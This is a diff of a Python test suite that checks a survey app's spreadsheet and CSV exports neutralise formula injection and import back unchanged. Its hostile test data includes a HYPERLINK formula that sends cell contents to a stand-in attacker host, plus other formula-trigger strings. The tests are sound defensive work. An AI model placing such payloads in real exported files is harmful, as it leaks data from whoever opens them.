@@ -13,6 +13,7 @@ from openpyxl import load_workbook
 
 from assessment.demo import DEMO_PASSWORD
 from assessment.lookups import round_named
+from assessment.results import round_scores
 from tests.test_compare_access import client_for
 
 ROUND = "2022 follow-up"
@@ -134,6 +135,15 @@ def test_json_export_reopens_with_the_scores(app, demo, dmat, tmp_path):
         "overall",
     }
     assert set(document["answers"][0]) == {"city", "respondent", "question", "answer", "comment"}
+    # the cohort is the round's submitted cities: Sofia, Athens and Riga are still answering
+    submitted = [s for s in round_scores(round_named(ROUND)) if s.assessment.is_submitted]
+    assert len(submitted) == 18
+    assert document["cohort"]["overall"]["n"] == sum(
+        s.result.overall is not None for s in submitted
+    )
+    assert document["cohort"]["vision"]["n"] == sum(
+        s.result.areas["vision"].score is not None for s in submitted
+    )
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@@ -191,3 +201,191 @@ def test_export_bad_input(app, demo, dmat, tmp_path):
     assert result.exit_code == 1 and "is a directory" in result.output
     assert "Traceback" not in result.output
     assert list(tmp_path.iterdir()) == []
+
+
+HOSTILE_CITIES = ("=1+1", "@SUM(A1)", "-2+3", "+Σ", "'=x", "Πάτρα")
+HOSTILE_COMMENTS = (
+    '=HYPERLINK("http://evil.example/?x="&B2,"open")',
+    "+Σοφία",
+    "-1",
+    "@SUM(A1:A9)",
+    "'=x",
+    "''+y",
+    "'\t=cmd",
+    "'просто цитат",
+    "обикновен коментар",
+)
+
+
+def hostile_round(make_round, make_city):
+    """A round whose city names and comments a spreadsheet would take as formulas."""
+    from assessment.extensions import db
+    from assessment.models import Answer, AnswerKind, Assessment, Response, Role, User
+
+    round_ = make_round("Ξάνθη 2024")
+    questions = [q for area in round_.questionnaire.areas for q in area.questions]
+    for number, name in enumerate(HOSTILE_CITIES):
+        city = make_city(name, "GR")
+        assessment = Assessment(round_id=round_.id, city_id=city.id)
+        user = User(email=f"member{number}@city.example", role=Role.RESPONDENT, city_id=city.id)
+        response = Response(assessment=assessment, respondent=user)
+        db.session.add_all([assessment, user, response])
+        for index, question in enumerate(questions):
+            comment = HOSTILE_COMMENTS[(index + number) % len(HOSTILE_COMMENTS)]
+            response.answers.append(
+                Answer(
+                    question=question, kind=AnswerKind.LEVEL, level=2 + index % 3, comment=comment
+                )
+            )
+    db.session.commit()
+    return round_
+
+
+def stored_comments(round_name: str) -> list[tuple[str, str, str]]:
+    from sqlalchemy import select
+
+    from assessment.extensions import db
+    from assessment.models import Answer, Assessment, City, Question, Response, Round
+
+    return sorted(
+        db.session.execute(
+            select(City.name, Question.key, Answer.comment)
+            .join(Response, Answer.response_id == Response.id)
+            .join(Assessment, Response.assessment_id == Assessment.id)
+            .join(City, Assessment.city_id == City.id)
+            .join(Round, Assessment.round_id == Round.id)
+            .join(Question, Answer.question_id == Question.id)
+            .where(Round.name == round_name)
+        ).all()
+    )
+
+
+def test_text_that_a_spreadsheet_would_run_is_quoted_reversibly():
+    from assessment.files import FORMULA_TRIGGERS, spreadsheet_cell, spreadsheet_text
+
+    texts = [
+        *HOSTILE_CITIES,
+        *HOSTILE_COMMENTS,
+        "\r=1",
+        "\tx",
+        "'",
+        "''",
+        "'''@",
+        "",
+        "3",
+        "dont_know",
+    ]
+    for text in texts:
+        cell = spreadsheet_cell(text)
+        assert cell[:1] not in FORMULA_TRIGGERS, text
+        assert spreadsheet_text(cell) == text
+    assert spreadsheet_cell("=1+1") == "'=1+1" and spreadsheet_cell("'=x") == "''=x"
+    assert spreadsheet_cell("'plain") == "'plain" and spreadsheet_cell("Σ=1") == "Σ=1"
+    assert spreadsheet_text("'=x") == "=x" and spreadsheet_text("'plain") == "'plain"
+    for number in (-2.5, -3, 0, 41.25, None):
+        assert spreadsheet_cell(number) is number  # a number stays a number, minus sign and all
+
+
+def test_xlsx_export_has_no_formula_and_reimports_the_exact_text(
+    app, dmat, make_round, make_city, tmp_path
+):
+    from assessment.files import spreadsheet_cell
+
+    round_ = hostile_round(make_round, make_city)
+    target = tmp_path / "export.xlsx"
+    result = dmat("export", "--round", round_.name, "--format", "xlsx", "-o", str(target))
+    assert result.exit_code == 0, result.output
+    workbook = load_workbook(target)  # not read-only: cells keep their data type
+    texts = []
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+    answers = list(workbook["answers"].iter_rows(min_row=2, values_only=True))
+    assert {row[0] for row in answers} == {spreadsheet_cell(name) for name in HOSTILE_CITIES}
+    assert "'=1+1" in texts and "'-2+3" in texts and "''=x" in texts and "'+Σ" in texts
+    assert {row[4] for row in answers} == {spreadsheet_cell(c) for c in HOSTILE_COMMENTS}
+    assert spreadsheet_cell(HOSTILE_COMMENTS[0]) == "'" + HOSTILE_COMMENTS[0]
+    scores_sheet = list(workbook["scores"].iter_rows(min_row=2, values_only=True))
+    assert {row[0] for row in scores_sheet} == {spreadsheet_cell(n) for n in HOSTILE_CITIES}
+    for row in scores_sheet:  # numbers stay numbers
+        assert isinstance(row[4], int | float) and isinstance(row[2], int), row
+    workbook.close()
+
+    before = stored_comments(round_.name)
+    assert {comment for *_, comment in before} == set(HOSTILE_COMMENTS)
+    make_round("copy")
+    result = dmat("responses", "import", "--round", "copy", str(target))
+    assert result.exit_code == 0, result.output
+    assert stored_comments("copy") == before
+
+
+def test_csv_export_quotes_text_cells_and_reimports_the_exact_text(
+    app, dmat, make_round, make_city, tmp_path
+):
+    from assessment.files import spreadsheet_cell
+
+    round_ = hostile_round(make_round, make_city)
+    target = tmp_path / "export.zip"
+    result = dmat("export", "--round", round_.name, "--format", "csv", "-o", str(target))
+    assert result.exit_code == 0, result.output
+    with zipfile.ZipFile(target) as archive:
+        answers_csv = archive.read("answers.csv")
+        answers = list(csv.reader(io.StringIO(answers_csv.decode())))[1:]
+        score_lines = list(csv.reader(io.StringIO(archive.read("scores.csv").decode())))[1:]
+    assert {row[0] for row in answers} == {spreadsheet_cell(n) for n in HOSTILE_CITIES}
+    for row in answers:
+        assert row[0][:1] not in "=+-@" and row[4][:1] not in "=+-@\t\r"
+    assert {row[4] for row in answers} == {spreadsheet_cell(c) for c in HOSTILE_COMMENTS}
+    assert {row[0] for row in score_lines} == {spreadsheet_cell(n) for n in HOSTILE_CITIES}
+    for row in score_lines:
+        float(row[4])  # scores are written as numbers, never quoted
+        assert int(row[2]) == 1
+    # ``dmat scores --format csv`` writes the same cells
+    printed = dmat("scores", "--round", round_.name, "--format", "csv")
+    assert printed.exit_code == 0, printed.output
+    cities = {row[0] for row in list(csv.reader(io.StringIO(printed.output)))[1:]}
+    assert cities == {spreadsheet_cell(n) for n in HOSTILE_CITIES}
+
+    before = stored_comments(round_.name)
+    make_round("copy")
+    (tmp_path / "answers.csv").write_bytes(answers_csv)
+    result = dmat("responses", "import", "--round", "copy", str(tmp_path / "answers.csv"))
+    assert result.exit_code == 0, result.output
+    assert stored_comments("copy") == before
+
+
+def test_the_import_page_reads_an_export_back_exactly(
+    app, dmat, make_round, make_city, make_user, client, tmp_path
+):
+    from assessment.models import Role
+    from tests.conftest import csrf_token, login
+
+    round_ = hostile_round(make_round, make_city)
+    data = {}
+    for fmt in ("xlsx", "csv"):
+        target = tmp_path / f"export-{fmt}"
+        assert (
+            dmat("export", "--round", round_.name, "--format", fmt, "-o", str(target)).exit_code
+            == 0
+        )
+        data[fmt] = target.read_bytes()
+    with zipfile.ZipFile(io.BytesIO(data["csv"])) as archive:
+        data["csv"] = archive.read("answers.csv")
+    before = stored_comments(round_.name)
+    make_user("coordinator@programme.example", Role.COORDINATOR)
+    login(client, "coordinator@programme.example")
+    for fmt in ("xlsx", "csv"):
+        copy = make_round(f"copy {fmt}")
+        response = client.post(
+            f"/admin/rounds/{copy.id}/import",
+            data={
+                "csrf_token": csrf_token(client, f"/admin/rounds/{copy.id}/import"),
+                "file": (io.BytesIO(data[fmt]), f"answers.{fmt}"),
+            },
+            content_type="multipart/form-data",
+        )
+        assert response.status_code == 302, response.get_data(as_text=True)
+        assert stored_comments(f"copy {fmt}") == before
